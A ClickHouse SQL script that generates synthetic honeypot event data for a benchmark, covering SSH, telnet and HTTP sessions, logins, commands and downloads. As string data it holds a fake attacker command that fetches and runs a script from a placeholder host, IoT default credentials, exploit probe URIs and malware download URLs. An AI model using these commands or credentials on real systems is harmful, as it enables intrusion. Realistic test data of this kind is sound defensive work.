INSERT INTO hanipo.events
SELECT ts, toDate(intDiv(ts, 1000000)) AS day, sensor, uid, eventid, session, protocol, src_ip, src_port, dst_port,
       'bench' AS batch,
       concat('{"timestamp":"', replaceOne(toString(toDateTime(intDiv(ts, 1000000))), ' ', 'T'), 'Z","eventid":"', eventid,
              '","uid":"', uid, '","sensor":"', sensor, '","session":"', session, '","protocol":"', protocol,
              '","src_ip":"', src_ip, '","src_port":', toString(src_port), ',"dst_ip":"198.51.100.10","dst_port":',
              toString(dst_port), extra, '}') AS data
FROM (
  SELECT n, k, i, h,
    toInt64(@D0@) + intDiv(toInt64(n) * 604800000000, toInt64(@N@)) AS ts,
    concat('sensor-', toString(n % 10)) AS sensor,
    concat(lower(hex(intHash64(n))), '-', toString(n % 1000)) AS uid,
    lower(hex(intHash32(intDiv(n, 20)))) AS session,
    [22, 23, 80, 8080, 445, 3389, 6379, 443][i % 8 + 1] AS dst_port,
    ['ssh', 'telnet', 'http', 'http', 'trap', 'trap', 'trap', 'http'][i % 8 + 1] AS protocol,
    concat(toString(i * 7 % 223 + 1), '.', toString(i % 251), '.', toString(i * 13 % 256), '.', toString(i * 31 % 254 + 1)) AS src_ip,
    toUInt16(1024 + h % 60000) AS src_port,
    multiIf(k < 5, 'session.connect', k < 10, 'login.failed', k = 10, 'login.success', k < 13, 'command.input',
            k < 16, 'http.request', k = 16, 'client.kex', k = 17, 'tls.client_hello', k = 18, 'session.file_download',
            'session.closed') AS eventid,
    multiIf(
      k < 5, concat(',"src_cc":"', ['CN','US','IN','BR','RU','VN','DE','KR','NL','FR'][i % 10 + 1],
                    '","src_country":"', ['China','United States','India','Brazil','Russia','Vietnam','Germany','South Korea','Netherlands','France'][i % 10 + 1],
                    '","src_asn":', toString([4134, 14061, 9829, 28573, 12389, 7552, 24940, 4766, 14618, 16276][i % 10 + 1]),
                    ',"src_as_org":"', ['CHINANET','DIGITALOCEAN','BSNL','Claro','Rostelecom','Viettel','Hetzner','KT','Amazon','OVH'][i % 10 + 1], '"'),
      k < 11, concat(',"username":"', ['root','admin','user','guest','support','ubnt','pi','test'][h % 8 + 1],
                     '","password":"', ['123456','admin','xc3511','vizxv','password','root','888888','12345','default','1234','pass','guest'][intHash32(n + 1) % 12 + 1],
                     '","method":"password"'),
      k < 13, concat(',"input":"', ['uname -a','cat /proc/cpuinfo | grep name | wc -l','free -m','whoami','ls -la','cd /tmp; wget http://203.0.113.', toString(h % 50), '/x.sh'][h % 6 + 1], '"'),
      k < 16, concat(',"method":"GET","uri":"', ['/','/.env','/picsdesc.xml','/ctrlt/DeviceUpgrade_1','/favicon.ico','/cgi-bin/luci','/boaform/admin/formLogin','/shell?cd+/tmp'][h % 8 + 1],
                     '","user_agent":"', ['Mozilla/5.0','python-requests/2.31.0','curl/7.88.1','Hello, world','Mozila/5.0'][h % 5 + 1],
                     '","attack_classes":', ['["recon"]','["info-disclosure"]','["rce","command-injection"]','["rce"]','[]','["recon"]','["brute-force"]','["command-injection"]'][h % 8 + 1],
                     ',"cves":', ['[]','[]','["CVE-2014-8361"]','["CVE-2017-17215"]','[]','[]','["CVE-2018-10561","CVE-2018-10562"]','[]'][h % 8 + 1]),
      k = 16, concat(',"hassh":"', ['b5752e36ba6c5979a575e43178908adf','ec7378c1a92f5a8dde7e8b7a1ddf33d1','0df0d56bb50c6b2426d8d40234bf1826'][h % 3 + 1], '","client":"libssh"'),
      k = 17, concat(',"ja3":"', ['cd08e31494f9531f560d64c695473da9','773906b0efdefa24a7f2b8eb6985bf37'][h % 2 + 1], '","ja4":"t13d1516h2_8daaf6152771_02713d6af862","client":"Chrome"'),
      k = 18, concat(',"url":"http://203.0.113.', toString(h % 50), '/bins/x86","shasum":"', lower(concat(hex(intHash64(h % 50)), hex(intHash64(h % 50 + 1)), hex(intHash64(h % 50 + 2)), hex(intHash64(h % 50 + 3)))), '","type":"ELF 32-bit LSB executable"'),
      '') AS extra
  FROM (SELECT number + toUInt64(@START@) AS n, n % 20 AS k, intHash32(intDiv(n, 7)) % 400 AS i, intHash32(n) AS h
        FROM numbers(@COUNT@))
)
